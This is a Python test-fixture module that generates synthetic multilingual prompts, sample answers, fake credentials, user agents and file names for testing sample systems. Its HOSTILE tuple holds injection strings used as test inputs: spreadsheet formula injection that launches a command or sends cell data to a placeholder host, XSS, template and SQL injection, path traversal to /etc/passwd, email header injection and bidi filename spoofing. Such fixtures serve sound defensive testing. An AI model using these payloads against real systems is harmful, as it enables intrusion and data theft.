"""Free text as people and attackers write it, for the sample systems. Nobody real wrote any of it."""

import random
from collections.abc import Sequence
from typing import TypeVar

T = TypeVar("T")

SENTENCES = (
    "Can you summarise this contract in five plain sentences?",
    "The invoice shows two seats, but only one of us uses the product.",
    "Write a short welcome message for new members of our choir.",
    "Why does the second request take three times as long as the first?",
    "Explain the difference between a mutex and a semaphore with a kitchen example.",
    "I moved house in March; please use the new address from now on.",
    "Translate the following menu into French, keep the prices.",
    "Bugün toplantı saat üçte mi, yoksa dörtte mi başlıyor? İstanbul'dan bağlanıyorum.",
    "Şifremi değiştirdim ama hâlâ giriş yapamıyorum, yardımcı olur musunuz?",
    "أريد أن أعرف ما هي البيانات التي تحتفظون بها عني، من فضلكم.",
    "اكتب لي قصيدة قصيرة عن البحر في الشتاء.",
    "请把这段文字翻译成英文，并保留原来的语气。",
    "我的账单上多了一笔费用，能帮我查一下吗？",
    "कृपया मेरे खाते की जानकारी हिंदी में भेजें।",
    "मुझे तीन आसान शाकाहारी व्यंजन बताइए।",
    "Grüße aus Köln: Könnten Sie die Rechnung bitte an die Straße „Am Weiher“ schicken?",
    "Die Übersetzung ist größtenteils richtig, nur der dritte Absatz fehlt.",
    "Привет! Подскажите, почему запрос возвращает пустой ответ?",
    "Γράψε μου ένα σύντομο κείμενο για το νησί όπου μεγάλωσα.",
    "次の会議の議事録を三行でまとめてください。",
    "이 오류 메시지가 무슨 뜻인지 설명해 주세요.",
    "ช่วยเขียนอีเมลขอเลื่อนนัดให้หน่อยครับ",
    "שלום, האם אפשר לקבל עותק של כל ההודעות שלי?",
    "C'est l'été à la plage, et j'écris encore des requêtes SQL.",
    "Ideas for a birthday party of a seven-year-old who loves dinosaurs 🦕🎂",
    "Family emoji stay whole: 👩‍👩‍👧‍👦, flags too: 🇹🇷🇩🇪, and skin tones: 👋🏽",
)

ANSWERS = (
    "Here is a short version in five sentences, as you asked.",
    "A mutex is the one key to the pantry; a semaphore is a bowl with several keys.",
    "Of course. Shall I keep the tone friendly or make it more formal?",
    "Tabii, toplantı saat üçte başlıyor.",
    "بالطبع، إليك القصيدة التي طلبتها.",
    "当然可以，译文如下。",
    "ज़रूर, ये रहे तीन आसान व्यंजन।",
    "Gerne. Hier ist der fehlende dritte Absatz.",
    "```python\nfor row in rows:\n    print(row)\n```",
    "| plan | price |\n|---|---|\n| small | 9 |\n| large | 29 |",
)

# What a spreadsheet, a page, a terminal, a template or a file system could take for an instruction.
HOSTILE = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://example.invalid/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1 with a full-width sign",
    "She said \"no\", he said 'yes'; then: a,b;c\td",
    "two\nlines\r\nand a third",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</td></tr></table><h1>not a heading</h1>",
    "javascript:alert(1)",
    "{{ 7 * 7 }} {% debug %} ${7*7} #{7*7}",
    "'; DROP TABLE users; --",
    "bell \x07, escape \x1b[31mred\x1b[0m, backspace \x08",
    "nul \x00 inside",
    "override \u202egnp.exe\u202c and isolate \u2066abc\u2069",
    "zero\u200bwidth\u200djoiners and a mark \ufeff",
    "line\u2028and paragraph\u2029separators",
    "Z\u0351\u036ba\u0343\u0369l\u0336g\u0335o\u0338",
    "]]><!-- comment -->",
    "../../etc/passwd",
    "C:\\con\\nul.txt",
    "Subject: hello\r\nBcc: everyone@example.invalid",
    "   ",
    "",
    "NULL",
    "%s %(name)s %n",
)

# Made to look like credentials, and put together here so that nobody's scanner takes this file for a leak.
SECRETS = (
    "sk-" + "live-" + "Sample0" * 6,
    "AKIA" + "SAMPLE00SAMPLE00",
    "ghp_" + "sample" * 6,
    "$2b$" + "12$" + "samplesaltsamplesaltsamplehashsamplehashsamplehashsam",
    "eyJ" + "hbGciOiJIUzI1NiJ9." + "eyJ" + "zdWIiOiJzYW1wbGUifQ." + "c2FtcGxlLXNpZ25hdHVyZS1zYW1wbGU",
    "-----BEGIN " + "PRIVATE KEY-----\nMIIsample\n-----END " + "PRIVATE KEY-----",
    "postgresql://sample:" + "not-a-real-word" + "@db.example.invalid/app",
)

AGENTS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 Version/19.0 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/141.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 19_0 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "python-requests/2.34.0",
    "curl/8.14.1",
    "openai-python/2.8.0",
)

FILE_NAMES = ("screenshot.png", "ekran görüntüsü.png", "../../evil.png", "CON.txt", "log \u202egnp.txt", "a/b\\c.bin")


def pick(rng: random.Random, choices: Sequence[T]) -> T:
    """One of `choices`; several times faster than rng.choice, which matters at 100,000 rows."""
    return choices[int(rng.random() * len(choices))]


def long_text(rng: random.Random, size: int = 200_000) -> str:
    """A text of about `size` bytes in UTF-8, in many scripts."""
    parts: list[str] = []
    written = 0
    while written < size:
        sentence = pick(rng, SENTENCES)
        parts.append(sentence)
        written += len(sentence.encode()) + 1
    return " ".join(parts)


def with_secret(rng: random.Random) -> str:
    """A prompt into which somebody pasted a credential they should not have."""
    return f"Why does this not work? I call it with {pick(rng, SECRETS)} and get an error."


def written(rng: random.Random, count: int, *, named: bool) -> list[str]:
    """`count` texts of one person.

    A named person wrote every hostile text, every pasted secret and two very long prompts (as far as `count`
    leaves room), so that a test over one person meets all of them; anybody else wrote ordinary sentences.
    """
    if not named:
        return [pick(rng, SENTENCES) for _ in range(count)]
    special = [*HOSTILE, *(f"My key is {secret} please check it" for secret in SECRETS), *SENTENCES]
    special += [long_text(rng), long_text(rng, 60_000)]
    texts = special[:count]
    texts += [pick(rng, SENTENCES) for _ in range(count - len(texts))]
    rng.shuffle(texts)
    return texts
